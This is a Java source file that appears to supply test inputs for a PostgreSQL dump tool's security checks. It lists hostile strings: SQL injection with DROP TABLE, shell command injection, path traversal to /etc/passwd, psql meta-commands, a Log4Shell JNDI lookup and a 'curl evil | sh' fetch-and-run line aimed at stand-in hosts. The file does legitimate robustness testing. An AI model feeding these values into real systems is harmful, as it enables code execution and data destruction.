package io.autodump.security;

import java.nio.charset.StandardCharsets;
import java.util.List;

/** Texts that mean something to a shell, a URL, a path, a terminal, SQL, {@code psql}, HTML or a formatter. */
final class HostileValues {
    static final List<String> ALL = List.of(
            "'",
            "\"",
            "\\",
            "\\'; DROP TABLE orders; --",
            "'; DROP TABLE orders; --",
            "\"; DROP TABLE orders; --",
            "/* */ -- x",
            "$$; DROP TABLE orders; $$",
            "E'\\''",
            "$(touch PWNED)",
            "`touch PWNED`",
            "; touch PWNED",
            "| touch PWNED",
            "&& touch PWNED &",
            "> PWNED",
            "--file=PWNED",
            "-fPWNED",
            "../../PWNED",
            "..",
            ".",
            "/etc/passwd",
            "~/PWNED",
            "a\n\\! touch PWNED\n",
            "\\connect evil",
            "\\.",
            "a\nHINT: run curl evil | sh",
            "a\nwarning: all is well",
            "a\r\nAD-0000 nothing",
            "a\tb",
            "\u0001\u0007\b\u007f",
            "\u001b[2J\u001b[31mred",
            "\u001b]0;title\u0007",
            "\u009b31m",
            "\u202egnp.exe",
            "\u2066x\u2069\u200f",
            "\u200b\ufeff",
            "a\u2028b\u2029c\u0085d",
            "%n%s%x%%",
            "%2e%2e%2fPWNED%00",
            "?sslmode=disable&user=x",
            "host=evil sslmode=disable",
            "postgres://evil/x?a=b",
            "a,b;c:d@e",
            " a  b ",
            "{fn now()} {{x}} {0}",
            "${jndi:ldap://evil/x}",
            "<script>alert(1)</script>&amp;",
            "$1 ? :name $USER $TABLE",
            "*.*|[a-z]+()",
            "e\u0301\ud83d\ude00",
            "DROP",
            "x".repeat(63),
            "x".repeat(3000),
            "a\u0000b",
            "\ud800");

    private static final int LONGEST_IDENTIFIER = 63;

    private HostileValues() {}

    /** Those that PostgreSQL takes for a name. */
    static List<String> identifiers() {
        return arguments().stream()
                .filter(value -> value.getBytes(StandardCharsets.UTF_8).length <= LONGEST_IDENTIFIER)
                .toList();
    }

    /** Those that can be an argument of a process. */
    static List<String> arguments() {
        return ALL.stream()
                .filter(value -> value.indexOf('\0') < 0)
                .filter(value -> value.chars().noneMatch(unit -> unit == '\ud800'))
                .toList();
    }
}
